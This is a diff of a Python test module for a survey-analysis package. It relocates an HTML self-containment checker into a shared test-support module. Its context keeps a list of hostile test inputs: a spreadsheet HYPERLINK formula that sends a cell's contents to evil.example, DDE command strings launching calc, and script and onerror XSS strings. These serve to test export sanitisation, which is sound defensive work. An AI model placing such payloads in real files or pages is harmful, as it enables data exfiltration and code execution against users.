@@ -6,7 +6,6 @@ from __future__ import annotations
 import csv
 import io
 import re
-from html.parser import HTMLParser
 
 import openpyxl
 import pandas as pd
@@ -22,6 +21,7 @@ from analysis.tables.summary_table import RELIABILITY_NOTE, Column, SummaryTable
 from survey import ResponseStore
 from survey.fieldwork.audit_log import AuditLog
 from survey.simulate import main as simulate
+from tests.support.html_pages import assert_self_contained
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "<script>alert('x')</script><img src=x onerror=alert(1)>"]
@@ -62,29 +62,6 @@ def _csv(data: bytes) -> list[list[str]]:
 def _column(sheet, header: str) -> int:
     labels = [c.value for c in sheet[HEADER_ROW + 1]]
     return labels.index(header) + 1
-
-
-class Tags(HTMLParser):
-    """The page's elements and attributes (text is not markup)."""
-
-    def __init__(self, page: str):
-        super().__init__()
-        self.tags: set[str] = set()
-        self.attributes: list[tuple[str, str]] = []
-        self.feed(page)
-
-    def handle_starttag(self, tag, attrs):
-        self.tags.add(tag)
-        self.attributes += [(k, v or "") for k, v in attrs]
-
-
-def assert_self_contained(page: str) -> Tags:
-    tags = Tags(page)
-    assert not tags.tags & {"script", "link", "img", "iframe", "object", "embed", "image", "use", "foreignobject"}
-    assert not [(k, v) for k, v in tags.attributes if k in ("src", "href", "xlink:href") and not v.startswith("#")]
-    assert not [k for k, _ in tags.attributes if k.startswith("on")]  # no event handlers
-    assert "@import" not in page and "url(" not in page
-    return tags
 
 
 def hostile_table() -> SummaryTable:
